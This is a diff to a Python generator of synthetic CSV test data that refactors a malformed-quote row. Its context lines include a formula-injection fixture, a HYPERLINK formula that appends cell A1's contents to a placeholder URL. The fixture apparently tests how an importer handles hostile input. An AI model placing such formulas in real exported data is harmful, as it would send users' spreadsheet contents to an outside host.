@@ -179,7 +179,8 @@ def generate(n: int, out: Path, *, seed: int = 7, encoding: str = "utf-8", delim
         lines.append(delimiter.join(quote(f, delimiter) for f in fields))
     if broken:
         lines.insert(5, lines[4] + delimiter + "extra" + delimiter + "fields")
-        lines.insert(9, delimiter.join(['C9999998', '"Ana', 'Broken quote"x', "", "", "", "", "", "", "", "", "", "", ""]))
+        broken_quote = ["C9999998", '"Ana', 'Broken quote"x', *[""] * 11]
+        lines.insert(9, delimiter.join(broken_quote))
         # a multi-line address-like value and a formula-injection attempt, both legitimate CSV
         extra = ["C9999999", '=HYPERLINK("http://x.example/?"&A1,"clic")', "Pérez\nGarcía", "ana@example.org",
                  "", "", "", "28001", "Madrid", "ES", "01/01/2020", "", "0", "No"]
